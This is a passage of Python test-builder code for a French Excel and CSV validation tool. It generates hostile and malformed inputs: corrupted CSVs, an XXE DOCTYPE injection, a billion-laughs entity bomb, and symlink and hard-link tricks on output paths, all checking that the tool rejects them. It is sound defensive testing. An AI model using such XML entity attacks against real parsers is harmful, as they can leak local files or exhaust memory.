        check=text_reads_back(["36402 - ILF\x01Saint-Nazaire"]),
    )
    add(
        "ref-csv-guillemets",
        "referentiel",
        lambda f, b: csv_referentiel(f, "ref", {"lots": lambda t: t + '"PAS2025_9;"PREPA\n'}),
        template,
        {0, 2},
    )

    def csv_bytes(folder: Path, table: str, edit: Callable[[bytes], bytes]) -> Path:
        out = csv_referentiel(folder, "ref", {})
        path = out / f"{table}.csv"
        path.write_bytes(edit(path.read_bytes()))
        return out

    add(
        "ref-csv-nul",
        "referentiel",
        lambda f, b: csv_bytes(f, "sites", lambda d: d.replace(b"Nantes", b"Nan\x00tes", 1)),
        template,
        2,
        message="sites",
    )
    add(
        "ref-csv-champ-sans-fin",
        "referentiel",
        lambda f, b: csv_bytes(f, "contacts", lambda d: d + b'9999;"' + b"x" * 140_000 + b"\n"),
        template,
        2,
        message="contacts",
    )
    add(
        "ref-csv-octets-illisibles",
        "referentiel",
        lambda f, b: csv_bytes(
            f, "organismes", lambda d: d.replace("é".encode(), b"\x81\x8d\x8f\x90", 1)
        ),
        template,
        2,
        message="organismes",
    )
    add(
        "ref-xlsx-dtd",
        "referentiel",
        lambda f, b: rezip(
            ROOT / "examples" / "referentiel-exemple.xlsx",
            f / "ref-dtd.xlsx",
            {"xl/worksheets/sheet1.xml": lambda d: doctype(d, XXE)},
        ),
        template,
        2,
        message="DTD",
    )
    add(
        "ref-xlsx-rires",
        "referentiel",
        lambda f, b: rezip(
            ROOT / "examples" / "referentiel-exemple.xlsx",
            f / "ref-rires.xlsx",
            {"xl/workbook.xml": lambda d: doctype(d, LAUGHS)},
        ),
        template,
        2,
        message="DTD",
    )
    add(
        "ref-xlsx-endommage",
        "referentiel",
        lambda f, b: raw(
            "ref-tronque.xlsx", (ROOT / "examples" / "referentiel-exemple.xlsx").read_bytes()[:3000]
        )(f, b),
        template,
        2,
    )

    # output-path tricks ---------------------------------------------------------------------------
    add(
        "sortie-egale-entree",
        "sortie",
        lambda f, b: copy_of(b.workbook, f, "saisie.xlsx"),
        ["validate", "{in}", "-o", "{in}"],
        2,
        message="entrée",
    )
    add(
        "sortie-lien-symbolique",
        "sortie",
        lambda f, b: copy_of(b.workbook, f, "saisie.xlsx"),
        vo,
        2,
        prepare=lambda inp, outp: outp.symlink_to(inp),
        message="entrée",
    )
    add(
        "sortie-lien-dur",
        "sortie",
        lambda f, b: copy_of(b.workbook, f, "saisie.xlsx"),
        vo,
        2,
        prepare=lambda inp, outp: os.link(inp, outp),
        message="entrée",
    )
    add(
        "sortie-dossier",
        "sortie",
        lambda f, b: copy_of(b.workbook, f, "saisie.xlsx"),
        vo,
        2,
        prepare=lambda inp, outp: outp.mkdir(),
        message="dossier",
    )
    add(
        "sortie-dossier-absent",
        "sortie",
        lambda f, b: copy_of(b.workbook, f, "saisie.xlsx"),
        ["validate", "{in}", "-o", "{dir}/absent/copie.xlsx"],
        2,
        message="n'existe pas",
    )
    add(
        "sortie-nom-trop-long",
        "sortie",
        lambda f, b: copy_of(b.workbook, f, "saisie.xlsx"),
        ["validate", "{in}", "-o", "{dir}/" + "n" * 300 + ".xlsx"],
        2,
    )
    add(
        "sortie-travail-utilisateur",
        "sortie",
        lambda f, b: copy_of(b.workbook, f, "saisie.xlsx"),
        vo,
        2,
        prepare=lambda inp, outp: with_cells(inp, outp, {(SESSIONS_SHEET, "B3"): "MA-SESSION"}),
        message="--ecraser",
    )
    add(
        "sortie-mauvaise-extension",
        "sortie",
        lambda f, b: copy_of(b.workbook, f, "saisie.xlsx"),
        ["validate", "{in}", "-o", "{dir}/copie.xlsm"],
        2,
        message=".xlsx",
    )
    add(
        "export-sur-le-classeur",
        "sortie",
        lambda f, b: copy_of(b.workbook, f, "saisie.xlsx"),
        ["export", "{in}", "-o", "{in}"],
        2,
    )
    add(
        "lheo-dans-un-dossier",
        "sortie",
        lambda f, b: copy_of(b.workbook, f, "saisie.xlsx"),
        ["lheo", "{in}", "-o", "{dir}"],
        2,
    )
    return out


# --- small builders ---------------------------------------------------------------------------
def _mkdir(path: Path) -> Path:
    path.mkdir()
    return path


def _without(folder: Path, name: str) -> Path:
    (folder / name).unlink()
    return folder


def _note_above(text: str) -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        ws = book[SESSIONS_SHEET]
        ws.insert_rows(1)
        ws["A1"] = text
        ws["A1"].data_type = "s"

    return edit


def _extra_sheet(a1: str, b2: str, title: str = "Mes calculs") -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        ws = book.create_sheet(title)
        ws["A1"], ws["B2"] = a1, b2
        ws["A1"].data_type = ws["B2"].data_type = "s"

    return edit


def _meta_value(key: str, value: str) -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        for row in book[META_SHEET].iter_rows():
            if row[0].value == key:
                row[1].value = value
                row[1].data_type = "s"

    return edit


def _drop_meta(key: str) -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        ws = book[META_SHEET]
        for row in ws.iter_rows():
            if row[0].value == key:
                ws.delete_rows(row[0].row)
                return

    return edit


def _edit_embedded(old: str | None, new: str | None) -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        for row in book[META_SHEET].iter_rows():
            if row[0].value == "referentiel_json":
                text = row[1].value
                row[1].value = text.replace(old, new) if old is not None else text[: len(text) // 2]
                return

    return edit


def _merge_headers(book: Any) -> None:
    ws = book[SESSIONS_SHEET]
    start = column_of(SESSIONS_SHEET, "start_date").letter
    end = column_of(SESSIONS_SHEET, "end_date").letter
    ws.merge_cells(f"{start}2:{end}2")


def _clear_row(sheet: str, row: int) -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        for c in book[sheet][row]:
            c.value = None

    return edit


def _insert_rows(sheet: str, n: int) -> Callable[[Any], None]:
    def edit(book: Any) -> None:
        book[sheet].insert_rows(1, n)

    return edit


def _inline_text(ref: str, text: str) -> Callable[[bytes], bytes]:
    """Replace (or add) a cell of a sheet part with an inline string, escaped as Excel does."""

    def edit(data: bytes) -> bytes:
        payload = f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'.encode()
        pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
        if pattern.search(data):
            return pattern.sub(lambda m: payload, data, count=1)
        row = int(re.sub(r"[A-Z]", "", ref))
        row_tag = re.compile(rb'(<row r="' + str(row).encode() + rb'"[^>]*>)(.*?)(</row>)', re.S)
        return row_tag.sub(lambda m: m.group(1) + m.group(2) + payload + m.group(3), data, count=1)

    return edit


def _number_xml(ref: str, value: bytes) -> Callable[[bytes], bytes]:
    def edit(data: bytes) -> bytes:
        pattern = re.compile(rb'<c r="' + ref.encode() + rb'"[^>]*?(?:/>|>.*?</c>)', re.S)
        return pattern.sub(
            lambda m: f'<c r="{ref}"><v>'.encode() + value + b"</v></c>", data, count=1
        )

    return edit


def _workbook_1904(folder: Path, base: Base) -> Path:
    from openpyxl.utils.datetime import CALENDAR_MAC_1904

    book = load_workbook(base.workbook)
    for ws in book.worksheets:
        ws.protection.sheet = False
    book.epoch = CALENDAR_MAC_1904
    import datetime as dt

    book[SESSIONS_SHEET][cell("start_date")].value = dt.datetime(2025, 3, 3)
    out = folder / "mac-1904.xlsx"
    book.save(out)
    return out


def _cp1252_referentiel(folder: Path, base: Base) -> Path:
    out = csv_referentiel(folder, "ref-windows", {})
    for path in out.glob("*.csv"):
        path.write_bytes(path.read_text(encoding="utf-8").encode("cp1252"))
    return out


def zip_bytes(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return buffer.getvalue()
